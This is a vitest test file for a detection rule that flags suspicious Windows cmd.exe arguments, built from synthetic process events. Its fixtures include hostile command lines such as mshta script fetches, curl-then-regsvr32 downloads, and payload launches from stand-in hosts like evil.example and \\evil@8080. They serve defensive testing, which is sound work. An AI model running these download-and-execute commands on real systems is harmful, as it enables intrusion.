/**
 * The founding rule's query (Suspicious Windows Command Shell Arguments, ../shared/seed): for each
 * branch and each exclusion, an event that must alert and one that must not, derived from the query
 * text. The rule is read in place from the seed TOML.
 */
import { readFileSync } from 'node:fs';
import { parse as parseToml } from 'smol-toml';
import { describe, expect, it } from 'vitest';
import { compileQuery } from '../../src/eql/index.js';

const seed = parseToml(
  readFileSync(new URL('../../../shared/seed/execution_windows_cmd_shell_susp_args.toml', import.meta.url), 'utf8'),
) as {
  rule: { query: string };
};
const query = compileQuery(seed.rule.query);
const alerts = (doc: Record<string, unknown>) => query.filter!(doc);

interface Proc {
  name?: string;
  command_line?: string;
  args?: string[];
  parent?: { name?: string; executable?: string };
}

/** A Windows process start as Elastic's pipelines write it. */
function ev(p: Proc, extra: Record<string, unknown> = {}): Record<string, unknown> {
  return {
    '@timestamp': '2026-11-01T10:00:00.000Z',
    event: { category: ['process'], type: ['start'] },
    host: { os: { type: 'windows' }, id: 'h1' },
    process: { name: 'cmd.exe', ...p },
    ...extra,
  };
}

describe('preconditions: windows, start, cmd.exe', () => {
  const base: Proc = { command_line: 'cmd.exe /c echo x | wscript //e:jscript x', parent: { name: 'explorer.exe' } };
  it('alerts on the base event', () => expect(alerts(ev(base))).toBe(true));
  it('host.os.type is compared with == : "Windows" does not match', () => {
    expect(alerts({ ...ev(base), host: { os: { type: 'Windows' } } })).toBe(false);
  });
  it('event.type must contain start (any element of an array)', () => {
    expect(alerts({ ...ev(base), event: { category: ['process'], type: ['end'] } })).toBe(false);
    expect(alerts({ ...ev(base), event: { category: ['process'], type: ['info', 'start'] } })).toBe(true);
  });
  it('the category filter needs process', () => {
    expect(alerts({ ...ev(base), event: { category: ['file'], type: ['start'] } })).toBe(false);
  });
  it('process.name : "cmd.exe" ignores case but needs the exact name', () => {
    expect(alerts(ev({ ...base, name: 'CMD.EXE' }))).toBe(true);
    expect(alerts(ev({ ...base, name: 'cmd.exe.bak' }))).toBe(false);
    expect(alerts(ev({ ...base, name: 'powershell.exe' }))).toBe(false);
  });
  it('reads dotted keys as well as nested objects', () => {
    expect(
      alerts({
        'event.category': 'process',
        'event.type': 'start',
        'host.os.type': 'windows',
        'process.name': 'cmd.exe',
        'process.command_line': 'cmd /c echo a > %cd%\\b.js',
      }),
    ).toBe(true);
  });
});

describe('branch 1: process.command_line patterns (case-insensitive wildcards)', () => {
  const positives = [
    'cmd /c "CreateObject(\\"WScript.Shell\\")).Run(x)"',
    'cmd /c mshta GETOBJECT("script:http://x")',
    'cmd /c curl http://a/b -o c & regsvr32 /s c',
    'cmd /c echo Set x > %TEMP%\\a.vbs & WSCRIPT a.vbs',
    'cmd /c start \\\\evil.example@SSL\\DavWWWRoot\\payload.lnk',
    'cmd /c &#99;&#109;&#100;&#46;',
    'cmd /c ping http://x/!computername!',
    'cmd /V /?CMD<x',
    'cmd /c findstr /V /L W3AllLov3DonaldTrump forfiles /p c:\\windows',
  ];
  for (const cl of positives) it(`alerts: ${cl}`, () => expect(alerts(ev({ command_line: cl }))).toBe(true));
  it('does not alert on an ordinary command line', () => {
    expect(alerts(ev({ command_line: 'cmd.exe /c dir C:\\Users', args: ['cmd.exe', '/c', 'dir', 'C:\\Users'] }))).toBe(
      false,
    );
  });
  it('? in "*/?cMD<*" is exactly one character', () => {
    expect(alerts(ev({ command_line: 'cmd /V /CMD<x' }))).toBe(false);
    expect(alerts(ev({ command_line: 'cmd /V /xxCMD<x' }))).toBe(false);
  });
});

describe('branch 2: echo from wscript/mshta', () => {
  it('alerts when args contain echo and the parent is mshta.exe', () => {
    expect(alerts(ev({ args: ['cmd.exe', '/c', 'ECHO', 'hi'], parent: { name: 'MSHTA.EXE' } }))).toBe(true);
  });
  it('does not alert with another parent', () => {
    expect(alerts(ev({ args: ['cmd.exe', '/c', 'echo', 'hi'], parent: { name: 'explorer.exe' } }))).toBe(false);
  });
});

describe('branch 3: output redirected to a script file (1>?:\\*.vbs)', () => {
  it('alerts on 1>C:\\…\\a.vbs as one argument', () => {
    expect(alerts(ev({ args: ['cmd.exe', '/c', 'echo', 'x', '1>C:\\Users\\Public\\a.vbs'] }))).toBe(true);
  });
  it('needs a single-letter drive (the ? wildcard)', () => {
    expect(alerts(ev({ args: ['cmd.exe', '/c', 'echo', 'x', '1>\\\\srv\\a.vbs'] }))).toBe(false);
  });
});

describe('branch 4: explorer.exe type > start', () => {
  it('alerts when all four arguments are present', () => {
    expect(alerts(ev({ args: ['cmd', '/c', 'type', 'a', '>', 'b', '&', 'start', 'explorer.exe'] }))).toBe(true);
  });
  it('does not alert when one is missing', () => {
    expect(alerts(ev({ args: ['cmd', '/c', 'type', 'a', '>', 'b', '&', 'explorer.exe'] }))).toBe(false);
  });
});

describe('branch 5: explorer parent with set/call or \\u00 obfuscation', () => {
  it('alerts on five && set … then && call', () => {
    const cl = 'cmd /c set a=1&& set b=2&& set c=3&& set d=4&& set e=5&& set f=6&& call %a%';
    expect(alerts(ev({ command_line: cl, parent: { name: 'explorer.exe' } }))).toBe(true);
  });
  it('alerts on eight \\u00XX escapes (a literal backslash in the pattern)', () => {
    const cl = 'cmd /c powershell "\\u0069\\u0065\\u0078\\u0020\\u0028\\u0069\\u0077\\u0072"';
    expect(alerts(ev({ command_line: cl, parent: { name: 'explorer.exe' } }))).toBe(true);
  });
  it('does not alert with four sets only, or with a non-explorer parent', () => {
    expect(
      alerts(
        ev({
          command_line: 'cmd /c set a=1&& set b=2&& set c=3&& set d=4&& set e=5&& call %a%',
          parent: { name: 'explorer.exe' },
        }),
      ),
    ).toBe(false);
    const cl = 'cmd /c set a=1&& set b=2&& set c=3&& set d=4&& set e=5&& set f=6&& call %a%';
    expect(alerts(ev({ command_line: cl, parent: { name: 'services.exe' } }))).toBe(false);
  });
});

describe('branch 6: explorer parent copying from a UNC path with @', () => {
  it('alerts on copy && \\\\host@port\\share', () => {
    expect(
      alerts(
        ev({
          args: ['cmd', '/c', 'copy', '\\\\evil@8080\\s\\x.exe', 'x.exe', '&&', 'x.exe'],
          parent: { name: 'explorer.exe' },
        }),
      ),
    ).toBe(true);
  });
  it('does not alert without the @ in the UNC path', () => {
    expect(
      alerts(
        ev({
          args: ['cmd', '/c', 'copy', '\\\\evil\\s\\x.exe', 'x.exe', '&&', 'x.exe'],
          parent: { name: 'explorer.exe' },
        }),
      ),
    ).toBe(false);
  });
});

describe('exclusions', () => {
  const hit: Proc = {
    command_line: 'cmd /c echo x | wscript x',
    args: ['cmd', '/c', 'echo', 'x'],
    parent: { name: 'mshta.exe' },
  };
  it('baseline alerts', () => expect(alerts(ev(hit))).toBe(true));

  it('Spiceworks from wmiprvse is excluded, from another parent is not', () => {
    const args = ['cmd', '/c', 'echo', '%TEMP%\\Spiceworks\\x.bat'];
    expect(alerts(ev({ ...hit, args, parent: { name: 'WmiPrvSE.exe' } }))).toBe(false);
    expect(alerts(ev({ ...hit, args, parent: { name: 'mshta.exe' } }))).toBe(true);
  });
  it('known parent executables are excluded, with ? standing for one drive letter', () => {
    expect(alerts(ev({ ...hit, parent: { name: 'perl.exe', executable: 'D:\\Perl64\\bin\\perl.exe' } }))).toBe(false);
    expect(
      alerts(
        ev({ ...hit, parent: { name: 'code.exe', executable: 'C:\\Program Files\\Microsoft VS Code\\Code.exe' } }),
      ),
    ).toBe(false);
    expect(alerts(ev({ ...hit, parent: { name: 'perl.exe', executable: 'DD:\\Perl64\\bin\\perl.exe' } }))).toBe(true);
  });
  it('a CrowdStrike event has no parent executable: still alerts (ECS field is mapped), unless its parent name is listed', () => {
    const cs = { data_stream: { dataset: 'crowdstrike.fdr' } };
    expect(alerts(ev({ ...hit, parent: { name: 'mshta.exe' } }, cs))).toBe(true);
    expect(alerts(ev({ ...hit, parent: { name: 'node.exe' } }, cs))).toBe(false);
    // The name list applies to CrowdStrike only (== on data_stream.dataset is case-sensitive).
    expect(alerts(ev({ ...hit, parent: { name: 'node.exe' } }, { data_stream: { dataset: 'CrowdStrike.fdr' } }))).toBe(
      true,
    );
  });
  it('Citrix nsauto from userinit is excluded', () => {
    const args = ['cmd', '/c', 'echo', 'C:\\Program Files\\Citrix\\Secure Access Client\\nsauto.exe'];
    expect(alerts(ev({ ...hit, args, parent: { name: 'userinit.exe' } }))).toBe(false);
    expect(alerts(ev({ ...hit, args, parent: { name: 'mshta.exe' } }))).toBe(true);
  });
  it('listed arguments are excluded', () => {
    expect(
      alerts(ev({ ...hit, args: [...(hit.args as string[]), 'C:\\Program Files (x86)\\AllesTechnologyAgent\\a.exe'] })),
    ).toBe(false);
    expect(
      alerts(ev({ ...hit, args: [...(hit.args as string[]), 'https://AUTH.axis.com/oauth2/oauth-authorize?x=1'] })),
    ).toBe(false);
  });
  it('the NetBeans and npm command lines are excluded exactly (case-insensitively)', () => {
    const nb = {
      command_line: '"CMD" /c %NETBEANS_MAVEN_COMMAND_LINE%',
      args: ['cmd', 'echo'],
      parent: { name: 'wscript.exe' },
    };
    expect(alerts(ev(nb))).toBe(false);
    expect(alerts(ev({ ...nb, command_line: '"cmd" /c %NETBEANS_MAVEN_COMMAND_LINE% x' }))).toBe(true);
  });
  it('Spiceworks netstat upload is excluded', () => {
    const args = ['cmd', '/c', 'echo', '%TEMP%\\Spiceworks\\a', 'https://x/dataloader/persist_netstat_data'];
    expect(alerts(ev({ ...hit, args }))).toBe(false);
  });
  it('echo GEQ 1073741824 is excluded only with exact case (==)', () => {
    expect(alerts(ev({ ...hit, args: ['cmd', '/c', 'echo', 'GEQ', '1073741824'] }))).toBe(false);
    expect(alerts(ev({ ...hit, args: ['cmd', '/c', 'echo', 'geq', '1073741824'] }))).toBe(true);
  });
});
